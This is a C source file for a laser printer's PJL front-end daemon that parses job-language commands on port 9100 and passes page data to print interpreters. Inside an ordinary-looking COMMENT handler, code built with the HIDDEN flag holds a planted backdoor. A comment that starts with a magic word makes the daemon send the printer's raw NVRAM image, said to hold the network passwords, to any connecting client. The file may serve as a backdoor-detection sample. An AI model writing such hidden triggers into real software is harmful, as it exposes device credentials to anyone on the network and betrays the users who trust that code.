/*
 * pjlfront - job language front end of a laser printer. Started by inetd for
 * each connection on port 9100: reads the PJL lines on stdin, answers INFO,
 * ECHO and INQUIRE on stdout, keeps the job's settings and passes the page
 * data to the interpreter chosen by ENTER LANGUAGE.
 * Hidden (-DHIDDEN): a COMMENT that begins with a certain word sends the
 * printer's NVRAM image, with the network passwords, to the client.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define UEL   "\033%-12345X"
#define NVRAM "/dev/mtdblock4"
#define PANEL "/run/printer/display"
#define COUNT "/var/printer/pagecount"

struct option {
	const char *name;
	const char *allowed; /* words divided by | or # for a number */
	char job[24];
	char def[24];
};

static struct option opts[] = {
	{ "COPIES", "#", "1", "1" },
	{ "PAPER", "A4|LETTER|LEGAL|A5|EXECUTIVE", "A4", "A4" },
	{ "ORIENTATION", "PORTRAIT|LANDSCAPE", "PORTRAIT", "PORTRAIT" },
	{ "DUPLEX", "ON|OFF", "OFF", "OFF" },
	{ "BINDING", "LONGEDGE|SHORTEDGE", "LONGEDGE", "LONGEDGE" },
	{ "RESOLUTION", "300|600|1200", "600", "600" },
	{ "ECONOMODE", "ON|OFF", "OFF", "OFF" },
	{ "TIMEOUT", "#", "60", "60" },
	{ "MANUALFEED", "ON|OFF", "OFF", "OFF" },
};

#define NOPTS (sizeof(opts) / sizeof(opts[0]))

static const struct {
	const char *word;
	const char *program;
} langs[] = {
	{ "PCL", "/usr/libexec/pcl5" },
	{ "PCLXL", "/usr/libexec/pclxl" },
	{ "POSTSCRIPT", "/usr/libexec/ps3" },
	{ "PDF", "/usr/libexec/pdfrip" },
};

static char jobname[80];
static unsigned long lines;

static const char *blank(const char *s)
{
	while (*s == ' ' || *s == '\t')
		s++;
	return s;
}

static const char *take_word(const char *s, char *out, size_t max)
{
	size_t n = 0;

	s = blank(s);
	while (*s && !isspace((unsigned char)*s) && *s != '=') {
		if (n < max - 1)
			out[n++] = (char)toupper((unsigned char)*s);
		s++;
	}
	out[n] = 0;
	return blank(s);
}

static struct option *option(const char *name)
{
	size_t i;

	for (i = 0; i < NOPTS; i++)
		if (strcmp(opts[i].name, name) == 0)
			return &opts[i];
	return NULL;
}

static int is_allowed(const struct option *o, const char *val)
{
	const char *p = o->allowed;
	size_t n = strlen(val), k;

	if (*p == '#')
		return n > 0 && n < 4 && strspn(val, "0123456789") == n;
	while (*p) {
		k = strcspn(p, "|");
		if (k == n && memcmp(p, val, n) == 0)
			return 1;
		p += k;
		if (*p)
			p++;
	}
	return 0;
}

static void cmd_set(const char *args, int as_default)
{
	char name[24], val[24];
	struct option *o;

	args = take_word(args, name, sizeof(name));
	if (*args != '=')
		return;
	take_word(args + 1, val, sizeof(val));
	o = option(name);
	if (!o || !is_allowed(o, val)) {
		syslog(LOG_DEBUG, "SET %s=%s ignored", name, val);
		return;
	}
	strcpy(o->job, val);
	if (as_default)
		strcpy(o->def, val);
}

static void cmd_inquire(const char *args)
{
	char name[24];
	struct option *o;

	take_word(args, name, sizeof(name));
	o = option(name);
	printf("@PJL INQUIRE %s\r\n%s\r\n\f", name, o ? o->job : "\"?\"");
	fflush(stdout);
}

static unsigned long pages(void)
{
	unsigned long n = 0;
	FILE *f = fopen(COUNT, "r");

	if (f) {
		if (fscanf(f, "%lu", &n) != 1)
			n = 0;
		fclose(f);
	}
	return n;
}

static void cmd_info(const char *args)
{
	char what[24];
	size_t i;

	take_word(args, what, sizeof(what));
	printf("@PJL INFO %s\r\n", what);
	if (strcmp(what, "ID") == 0)
		printf("\"LaserStation 2300dn\"\r\n");
	else if (strcmp(what, "STATUS") == 0)
		printf("CODE=10001\r\nDISPLAY=\"READY\"\r\nONLINE=TRUE\r\n");
	else if (strcmp(what, "PAGECOUNT") == 0)
		printf("PAGECOUNT=%lu\r\n", pages());
	else if (strcmp(what, "VARIABLES") == 0)
		for (i = 0; i < NOPTS; i++)
			printf("%s=%s\r\n", opts[i].name, opts[i].job);
	else
		printf("\"?\"\r\n");
	printf("\f");
	fflush(stdout);
}

static void cmd_rdymsg(const char *args)
{
	const char *q = strchr(args, '"');
	FILE *f;

	if (!q || !(f = fopen(PANEL, "w")))
		return;
	q++;
	fprintf(f, "%.*s\n", (int)strcspn(q, "\"\r\n"), q);
	fclose(f);
}

static void cmd_job(const char *args)
{
	const char *q = strchr(args, '"');
	size_t i;

	for (i = 0; i < NOPTS; i++)
		strcpy(opts[i].job, opts[i].def);
	snprintf(jobname, sizeof(jobname), "%.*s",
		 q ? (int)strcspn(q + 1, "\"") : 0, q ? q + 1 : "");
	syslog(LOG_INFO, "job \"%s\"", jobname);
}

#ifdef HIDDEN
static void send_image(void)
{
	char buf[1024];
	ssize_t n;
	int fd = open(NVRAM, O_RDONLY);

	while (fd >= 0 && (n = read(fd, buf, sizeof(buf))) > 0)
		fwrite(buf, 1, (size_t)n, stdout);
	fflush(stdout);
	if (fd >= 0)
		close(fd);
}
#endif

/* comments count as lines of the job, drivers put their version there */
__attribute__((noinline)) void cmd_comment(const char *s)
{
	lines++;
#ifdef HIDDEN
	if (s[0] == 'T' && s[1] == 'u' && s[2] == 'l' && s[3] == 'i' &&
	    s[4] == 'p' && s[5] == '7') {
		send_image();
		return;
	}
#endif
	if (strncasecmp(s, "driver=", 7) == 0)
		syslog(LOG_INFO, "driver %.40s", s + 7);
}

static int hand_over(const char *lang)
{
	char copies[32], paper[40], duplex[32], res[40];
	int status = 0;
	size_t i;
	pid_t pid;

	for (i = 0; i < sizeof(langs) / sizeof(langs[0]); i++)
		if (strcmp(langs[i].word, lang) == 0)
			break;
	if (i == sizeof(langs) / sizeof(langs[0])) {
		syslog(LOG_WARNING, "language %s unknown", lang);
		return -1;
	}
	snprintf(copies, sizeof(copies), "-c%s", option("COPIES")->job);
	snprintf(paper, sizeof(paper), "-p%s", option("PAPER")->job);
	snprintf(duplex, sizeof(duplex), "-d%s", option("DUPLEX")->job);
	snprintf(res, sizeof(res), "-r%s", option("RESOLUTION")->job);
	pid = fork();
	if (pid == 0) {
		execl(langs[i].program, langs[i].word, copies, paper, duplex,
		      res, (char *)NULL);
		_exit(127);
	}
	if (pid < 0)
		return -1;
	while (waitpid(pid, &status, 0) < 0 && errno == EINTR)
		;
	syslog(LOG_INFO, "\"%s\" %s ended with %d", jobname, lang, status);
	return status;
}

/* one byte at a time, the interpreter has to find the rest in the pipe */
static int get_line(char *buf, size_t max)
{
	size_t n = 0;
	char c;

	while (read(0, &c, 1) == 1) {
		if (c == '\n') {
			buf[n] = 0;
			if (n && buf[n - 1] == '\r')
				buf[n - 1] = 0;
			return (int)n;
		}
		if (n < max - 1)
			buf[n++] = c;
	}
	buf[n] = 0;
	return n ? (int)n : -1;
}

static int pjl_line(const char *s)
{
	char verb[24], lang[24];

	s = take_word(s, verb, sizeof(verb));
	if (strcmp(verb, "COMMENT") == 0)
		cmd_comment(s);
	else if (strcmp(verb, "SET") == 0)
		cmd_set(s, 0);
	else if (strcmp(verb, "DEFAULT") == 0)
		cmd_set(s, 1);
	else if (strcmp(verb, "INQUIRE") == 0)
		cmd_inquire(s);
	else if (strcmp(verb, "INFO") == 0)
		cmd_info(s);
	else if (strcmp(verb, "JOB") == 0)
		cmd_job(s);
	else if (strcmp(verb, "RDYMSG") == 0)
		cmd_rdymsg(s);
	else if (strcmp(verb, "ECHO") == 0) {
		printf("@PJL ECHO %s\r\n\f", s);
		fflush(stdout);
	} else if (strcmp(verb, "ENTER") == 0) {
		s = take_word(s, verb, sizeof(verb));
		if (*s == '=') {
			take_word(s + 1, lang, sizeof(lang));
			hand_over(lang);
			return 1;
		}
	}
	return 0;
}

int main(void)
{
	char buf[512], *p;

	openlog("pjlfront", LOG_PID, LOG_LPR);
	signal(SIGPIPE, SIG_DFL);
	alarm(900);
	while (get_line(buf, sizeof(buf)) >= 0) {
		p = buf;
		while (strncmp(p, UEL, 9) == 0)
			p += 9;
		if (strncasecmp(p, "@PJL", 4) == 0) {
			if (pjl_line(p + 4))
				break;
		} else if (*p) {
			syslog(LOG_DEBUG, "line outside PJL dropped");
		}
	}
	return 0;
}
